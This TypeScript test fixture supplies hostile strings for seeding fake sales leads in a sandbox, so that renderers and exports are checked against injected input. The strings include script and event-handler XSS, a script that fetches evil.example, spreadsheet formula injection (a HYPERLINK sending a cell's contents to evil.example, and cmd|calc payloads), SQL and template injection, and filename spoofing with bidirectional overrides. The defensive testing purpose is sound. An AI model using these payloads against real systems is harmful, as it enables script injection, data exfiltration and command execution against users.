// Texts that an attacker could type into a chat widget to do harm where they are shown. Some leads have them, so that anyone who
// works with the sandbox sees at once whether a label, a table, an export or a log handles them.

const LONG = 'Bartholomew Maximilian Archibald Featherstonehaugh-Cholmondeley '.repeat(6).trim();

/** Names: markup, Markdown command links, icon syntax, formulas, bidirectional overrides, controls, very long ones. */
export const HOSTILE_NAMES: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
  '$(trash) Delete everything $(alert)',
  '[Ada](command:acquire.lead.delete) **bold** `code`',
  'Alice \u202Egnp.exe\u202C Smith',
  LONG,
  '<script>fetch("https://evil.example")</script>',
  "+1+1|cmd|' /C calc'!A0",
  '\u2066Eve\u2069 \u200B\u200F\uFEFF Zero\u200DWidth',
  '\u001b[31mRed\u001b[0m\u0007 Bell',
  '"><svg/onload=alert(document.domain)>',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Line\nBreak\r\nand\ttab',
  '{{constructor.constructor("return 1")()}} ${7*7} %s %n',
  '－2+3 ＝cmd',
  "Robert'); DROP TABLE leads;--",
  '👩‍👩‍👧‍👦🏴‍☠️ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  'file:///etc/passwd [x](javascript:alert(1)) <https://evil.example>',
];

/** Chat messages and page titles of such visitors. */
export const HOSTILE_TEXTS: readonly string[] = [
  'Hi <b>there</b><img src=x onerror=alert(1)> [open](command:workbench.action.terminal.new)',
  "=cmd|' /C calc'!A0",
  'See $(zap) https://evil.example/\u202Egpj.exe',
  '<iframe srcdoc="<script>parent.postMessage(1,\'*\')</script>"></iframe>',
];

/** True if the lead at this index (counted from the newest) has a hostile name: two of the first fifty, then about one in sixty. */
export function isHostile(place: number): boolean {
  return place % 61 === 17 || place === 38;
}

/** The hostile name for such an index. */
export function hostileName(place: number): string {
  return HOSTILE_NAMES[
    (place === 38 ? 1 : Math.floor(place / 61) + (place > 17 ? 1 : 0)) % HOSTILE_NAMES.length
  ] as string;
}
